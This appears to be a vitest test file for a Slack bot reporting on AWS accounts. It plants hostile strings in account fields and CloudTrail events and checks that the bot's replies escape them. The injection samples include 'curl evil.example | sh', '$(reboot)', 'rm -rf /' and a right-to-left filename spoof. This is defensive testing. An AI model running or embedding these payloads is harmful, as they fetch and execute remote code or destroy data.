import { afterAll, beforeAll, expect, it } from 'vitest';
import { demoAccount } from '../../demo/account/demo-account.ts';
import type { StandInAccount } from '../../demo/aws/stand-in-account.ts';
import type { RawSnapshot } from '../../src/vpc/raw-snapshot.ts';
import { checkMessage } from '../support/check-blocks.ts';
import { startStage, type Stage } from '../support/stage.ts';

/** What an attacker types into every box of the console. XML has no room for lower control characters. */
const NASTY = [
  '<!channel> *bold* `code`',
  '<!here|now>',
  '<@U012ABCDEF> ~gone~',
  '<#C012ABCDEF>',
  '<https://evil.example|console>',
  '&lt;!channel&gt; &amp;',
  '\u{202E}gpj.exe\u{200B}\u{9F}',
  '``` rm -rf /',
  `"; curl evil.example | sh; $(reboot) '`,
  '<'.repeat(200),
];

/** What people may name as they like, and nothing refers to. */
const FREE_TEXT = new Set(['Description', 'GroupName']);

let stage: Stage;
let used = 0;

beforeAll(async () => {
  const { accounts } = demoAccount(new Date());
  stage = await startStage({ accounts: accounts.map(hostile) });
});
afterAll(() => stage.close());

function hostile(account: StandInAccount): StandInAccount {
  const trail = account.trail?.map((event) => ({ ...event, text: event.text.replaceAll(USER_NAME, nasty) }));
  return { ...account, snapshot: spoil(account.snapshot) as RawSnapshot, ...(trail !== undefined && { trail }) };
}

/** In CloudTrail's JSON. */
const USER_NAME = /(?<="(?:userName|principalId|sourceIPAddress|userAgent)":")[^"]*(?=")/g;

function nasty(): string {
  used += 1;
  return JSON.stringify(NASTY[used % NASTY.length]).slice(1, -1);
}

function spoil(value: unknown, key = ''): unknown {
  if (typeof value === 'string') return FREE_TEXT.has(key) ? next() : value;
  if (Array.isArray(value)) return value.map((each) => spoil(each, key));
  if (typeof value !== 'object' || value === null) return value;
  const spoilt = Object.fromEntries(Object.entries(value).map(([name, each]) => [name, spoil(each, name)]));
  return 'Key' in spoilt && 'Value' in spoilt ? { ...spoilt, Value: next() } : spoilt;
}

function next(): string {
  used += 1;
  return NASTY[used % NASTY.length] ?? '';
}

const { questions } = demoAccount(new Date());

it.each(questions.map(({ title, command }) => [title, command] as const))(
  'no text of an account makes markup in an answer: %s',
  async (_, command) => {
    const { acknowledgement, threads } = await stage.ask(command);
    const messages = threads.flatMap(({ parent, replies }) => [parent].concat(replies));

    expect([acknowledgement, ...messages].flatMap(checkMessage)).toEqual([]);
    expect(messages.map(({ text }) => text).filter((text) => /[<>\p{Cf}]|&(?!lt;|gt;|amp;)/u.test(text))).toEqual([]);
    expect(messages.length).toBeGreaterThan(2);
  },
);

it('and the texts are told, as what they are', () => {
  const sent = JSON.stringify(stage.slack.calls.map(({ body }) => body));
  const told = ['&lt;https://evil.example', '&lt;#C012ABCDEF&gt;', '&amp;lt;!channel&amp;gt;', 'gpj.exe', '$(reboot)'];

  expect(told.filter((text) => !sent.includes(text))).toEqual([]);
});
